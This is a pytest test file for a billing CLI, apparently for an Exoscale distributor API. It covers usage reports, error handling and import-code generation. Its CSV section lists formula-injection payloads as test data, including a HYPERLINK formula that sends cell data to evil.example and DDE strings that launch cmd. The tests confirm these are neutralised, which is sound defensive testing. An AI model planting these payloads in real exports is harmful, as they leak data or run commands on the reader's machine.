"""Rules of the command that the simulator cannot be made to break on demand: tested in-process."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import uuid
from importlib.metadata import metadata, version
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from pulumi_exo_distributor import NotFoundError, Organization, ServerError, UsageStatement
from pulumi_exo_distributor import cli as cli_module
from pulumi_exo_distributor._fleet import load_customers
from pulumi_exo_distributor._resource import default_client_id
from pulumi_exo_distributor._scripts import EXTRAS


def org(name: str) -> Organization:
    return Organization.model_validate(
        {
            "id": str(uuid.uuid4()),
            "status": "active",
            "billing-address": {
                "name": name,
                "country": "CH",
                "city": "Bern",
                "postal-code": "3011",
                "street-name": "Marktgasse",
            },
        }
    )


class FakeClient:
    """list answers three organizations; usage fails as told for one of them."""

    key_fingerprint = "sha256:00000000000000aa"

    def __init__(self, failure: Exception) -> None:
        self.orgs = [org("Alpha"), org("Beta"), org("Gamma")]
        self.failure = failure

    def list_organizations(self) -> list[Organization]:
        return self.orgs

    def list_organization_usage(
        self, organization_id: Any, period: str | None = None
    ) -> list[UsageStatement]:
        if str(organization_id) == str(self.orgs[1].id):
            raise self.failure
        return [UsageStatement(code="S", currency="CHF", total_excl_vat=1, total_incl_vat=2)]  # type: ignore[arg-type]

    def close(self) -> None:
        pass


def session_of(client: object) -> cli_module.Session:
    session = cli_module.Session()
    session._client = client  # type: ignore[assignment]
    return session


def run_with(client: object, *args: str) -> Any:
    return CliRunner().invoke(cli_module.app, list(args), obj=session_of(client), prog_name="exo-distributor")


def test_usage_all_is_all_or_nothing() -> None:
    client = FakeClient(ServerError("list-distributor-organization-usage", 503, "maintenance"))
    result = run_with(client, "usage", "--all", "--period", "2026-10", "-o", "csv")
    assert result.exit_code == 1
    assert result.stdout == ""  # no partial table, no wrong totals
    beta = client.orgs[1].id
    assert f"error: organization {beta} (Beta): list-distributor-organization-usage answered HTTP 503" in (
        result.stderr
    )
    assert "the usage of 1 of 3 organization(s) could not be read; nothing printed" in result.stderr
    assert "hint: the Partner API failed through every retry" in result.stderr


def test_usage_all_leaves_out_an_organization_purged_during_the_run() -> None:
    client = FakeClient(NotFoundError("list-distributor-organization-usage", 404, "not found"))
    result = run_with(client, "usage", "--all", "--period", "2026-10", "-o", "json")
    assert result.exit_code == 0
    assert (
        f"note: organization {client.orgs[1].id} is gone (purged during the run): left out" in result.stderr
    )
    report = json.loads(result.stdout)
    assert [row["name"] for row in report["organizations"]] == ["Alpha", "Gamma"]
    assert report["totals"] == {"CHF": {"total_excl_vat": "2", "total_incl_vat": "4"}}


def test_an_unexpected_failure_is_one_line_unless_debugging() -> None:
    client = FakeClient(ZeroDivisionError("boom"))
    result = run_with(client, "usage", "--all")
    assert result.exit_code == 1
    assert "error: unexpected failure: ZeroDivisionError: boom" in result.stderr
    assert "Traceback" not in result.output
    assert isinstance(run_with(client, "--debug", "usage", "--all").exception, ZeroDivisionError)


def test_the_extras_the_scripts_check_are_the_declared_ones() -> None:
    requirements = metadata("pulumi-exo-distributor").get_all("Requires-Dist") or []
    for extra, modules in EXTRAS.items():
        names = {
            re.split(r"[<>=!~; \[]", requirement, maxsplit=1)[0].lower()
            for requirement in requirements
            if re.search(rf"""extra == ["']{extra}["']""", requirement)
        }
        assert set(modules) <= names, extra


@pytest.mark.parametrize(
    ("function", "command", "extra", "module"),
    [
        ("exo_distributor", "exo-distributor", "cli", "click"),
        ("exo_distributor_simulator", "exo-distributor-simulator", "simulator", "uvicorn"),
    ],
)
def test_a_missing_extra_says_how_to_install_it(function: str, command: str, extra: str, module: str) -> None:
    # sys.modules[name] = None makes the module unimportable, as if it were not installed.
    code = (
        f"import sys; sys.modules[{module!r}] = None\n"
        f"from pulumi_exo_distributor._scripts import {function}\n{function}([])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert done.returncode == 3
    assert done.stderr.startswith(
        f"{command}: the '{extra}' extra of pulumi-exo-distributor is not installed (missing: {module})."
    )
    wheel = f"pulumi_exo_distributor-{version('pulumi-exo-distributor')}-py3-none-any.whl"
    assert f"pip install 'dist/{wheel}[{extra}]'" in done.stderr
    assert "Traceback" not in done.stderr


# -- CSV cells a spreadsheet would run ----------------------------------------------------------------

# A billing clerk opens the CSV in a spreadsheet: a name from the API must never run there.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert cli_module._csv_cell(text) == "'" + text


@pytest.mark.parametrize("number", ["-12.50", "+3", "-0.0000001", "-1E-7", "1E+2", "0", ".5", "-7."])
def test_a_plain_number_stays_a_number(number: str) -> None:
    assert cli_module._csv_cell(number) == number


@pytest.mark.parametrize("text", ["Acme SA", "Zürich", "a=b", "1+1", " =1", "", "'quoted"])
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert cli_module._csv_cell(text) == text


@given(st.text())
def test_no_cell_starts_a_formula_unless_a_plain_number(text: str) -> None:
    cell = cli_module._csv_cell(text)
    assert isinstance(cell, str) and cell in (text, "'" + text)
    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert float(cell) == float(cell)  # a number a spreadsheet reads as one, not a formula


class CsvFleetClient:
    """Organizations named like formulas; each has one usage statement: a credit (negative amounts)."""

    key_fingerprint = "sha256:00000000000000bb"

    def __init__(self) -> None:
        self.orgs = [org(name) for name in FORMULAS]

    def list_organizations(self) -> list[Organization]:
        return self.orgs

    def list_organization_usage(
        self, organization_id: Any, period: str | None = None
    ) -> list[UsageStatement]:
        line = {
            "product": "=1+2",
            "variable": "@cmd",
            "description": "-refund",
            "quantity": "-3",
            "unit": "+h",
            "total-excl-vat": "-12.50",
            "total-incl-vat": "-13.51",
        }
        statement = {"code": "=S", "currency": "CHF", "total-excl-vat": "-12.50", "total-incl-vat": "-13.51"}
        return [UsageStatement.model_validate({**statement, "usage": [line]})]

    def close(self) -> None:
        pass


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_csv_output_neutralises_formulas_and_keeps_amounts() -> None:
    client = CsvFleetClient()
    listed = run_with(client, "orgs", "list", "-o", "csv")
    assert listed.exit_code == 0, listed.output
    assert sorted(row["name"] for row in read_csv(listed.stdout)) == sorted("'" + name for name in FORMULAS)

    billing = run_with(client, "usage", "--all", "--period", "2026-10", "-o", "csv")
    assert billing.exit_code == 0, billing.output
    rows = read_csv(billing.stdout)
    assert sorted(row["name"] for row in rows) == sorted("'" + name for name in FORMULAS)
    assert {(row["code"], row["total_excl_vat"], row["total_incl_vat"]) for row in rows} == {
        ("'=S", "-12.50", "-13.51")
    }

    lines = run_with(client, "usage", "--all", "--period", "2026-10", "--lines", "-o", "csv")
    assert lines.exit_code == 0, lines.output
    rows = read_csv(lines.stdout)
    assert sorted(row["name"] for row in rows) == sorted("'" + name for name in FORMULAS)
    assert {(row["product"], row["quantity"], row["total_excl_vat"]) for row in rows} == {
        ("'=1+2", "-3", "-12.50")
    }

    one = run_with(client, "usage", str(client.orgs[0].id), "--period", "2026-10", "-o", "csv")
    assert one.exit_code == 0, one.output
    (line,) = read_csv(one.stdout)
    assert line == {
        "code": "'=S",
        "currency": "CHF",
        "product": "'=1+2",
        "variable": "'@cmd",
        "description": "'-refund",
        "quantity": "-3",
        "unit": "'+h",
        "total_excl_vat": "-12.50",
        "total_incl_vat": "-13.51",
    }


# -- import-code writes what the loader and a program accept -----------------------------------------

LONG_DERIVED = default_client_id("fleet", "prod", "a-customer-with-a-very-long-name-" * 6)


def fleet_org(name: str, client_id: str | None) -> Organization:
    found = org(name)
    return found.model_copy(update={"client_id": client_id})


class ImportFleetClient:
    """Names and client ids that make poor keys: long, unicode, punctuation, shared."""

    def __init__(self) -> None:
        self.orgs = [
            fleet_org("Société Générale des Eaux", "pulumi:fleet/prod/société"),
            fleet_org("Long One SA", LONG_DERIVED),
            fleet_org("Long Two SA", LONG_DERIVED[:-3] + "xyz"),  # the same first 180 characters
            fleet_org("Straße & Söhne GmbH", None),
            fleet_org("株式会社テスト", None),  # nothing left in ASCII: the id stands in
            fleet_org("Acme SA", "acme-001"),
            fleet_org("Acme Twin SA", "acme-001"),  # two organizations share a client id
            fleet_org("~Tilde~ & Co", "~weird~ client/id"),
        ]

    def list_organizations(self) -> list[Organization]:
        return self.orgs

    def close(self) -> None:
        pass


def test_import_code_yaml_is_what_load_customers_accepts(tmp_path: Path) -> None:
    client = ImportFleetClient()
    result = run_with(client, "import-code", "--format", "yaml")
    assert result.exit_code == 0, result.output
    path = tmp_path / "customers.yaml"
    path.write_text(result.stdout, encoding="utf-8")
    customers = load_customers(path)  # refuses any key out of its rules: this is the round trip
    by_id = {customer.inputs["adopt_id"]: customer for customer in customers}
    assert set(by_id) == {str(o.id) for o in client.orgs}
    names = {str(o.id): by_id[str(o.id)].name for o in client.orgs}
    assert len(set(names.values())) == len(names)
    assert all(len(name) <= 60 and re.fullmatch(r"[a-z0-9][a-z0-9._-]*", name) for name in names.values())

    société, long_one, long_two, strasse, kk, acme, twin, tilde = (names[str(o.id)] for o in client.orgs)
    assert (société, strasse, acme, twin) == ("societe", "strasse-sohne-gmbh", "acme-001", "acme-001-2")
    assert tilde == "weird-client-id"
    assert kk == f"org-{str(client.orgs[4].id)[:8]}"
    # Shortened with a hash of the whole: two long ids with one beginning stay apart, recognisably.
    assert long_one.startswith("a-customer-with-a-very-long-name-a-customer") and long_one != long_two
    assert long_one[:51] == long_two[:51]

    # The original names and client ids are kept in the entries.
    entries = {customer.name: customer.inputs for customer in customers}
    assert entries["societe"]["display_name"] == "Société Générale des Eaux"
    assert entries["societe"]["client_id"] == "pulumi:fleet/prod/société"
    assert entries[long_one]["client_id"] == LONG_DERIVED
    # A shared client id is declared for neither (their program would fail), a comment shows it.
    assert "client_id" not in entries["acme-001"] and "client_id" not in entries["acme-001-2"]
    assert result.stdout.count('    # client_id: "acme-001"\n') == 2
    twin_id, acme_id = str(client.orgs[6].id), str(client.orgs[5].id)
    assert f"    # left out: organization {twin_id} has this client id too, and two" in result.stdout
    assert (
        f"warning: client id 'acme-001' is shared by 2 live organizations ({acme_id}, {twin_id}); "
        f"declared without it, in a comment: {acme_id}, {twin_id}" in result.stderr
    )


def test_import_code_python_names_are_the_yaml_keys() -> None:
    client = ImportFleetClient()
    python = run_with(client, "import-code")
    assert python.exit_code == 0, python.output
    compile(python.stdout, "import.py", "exec")
    yaml_keys = re.findall(
        r"^  ([^ #][^:]*):$", run_with(client, "import-code", "--format", "yaml").stdout, re.M
    )
    assert re.findall(r'^DistributorOrganization\(\n    "([^"]+)",$', python.stdout, re.M) == yaml_keys
    assert len(yaml_keys) == len(client.orgs)
    assert python.stdout.count('    # client_id="acme-001",\n') == 2
    assert '    client_id="acme-001",\n' not in python.stdout
    assert '    client_id="pulumi:fleet/prod/société",\n' in python.stdout
    assert "warning: client id 'acme-001' is shared by 2 live organizations" in python.stderr


def test_import_code_warns_of_a_client_id_shared_with_a_managed_organization() -> None:
    client = ImportFleetClient()
    acme, twin = client.orgs[5].id, client.orgs[6].id
    export = json.dumps(
        {"deployment": {"resources": [{"type": cli_module.DYNAMIC_RESOURCE_TYPE, "id": str(acme)}]}}
    )
    result = CliRunner().invoke(
        cli_module.app,
        ["import-code", "--format", "yaml", "--stack-state", "-"],
        obj=session_of(client),
        input=export,
        prog_name="exo-distributor",
    )
    assert result.exit_code == 0, result.output
    assert f"adopt_id: {acme}" not in result.stdout and f"adopt_id: {twin}" in result.stdout
    assert f"# left out: organization {acme} has this client id too" in result.stdout
    assert f"({acme}, {twin}); declared without it, in a comment: {twin} " in result.stderr
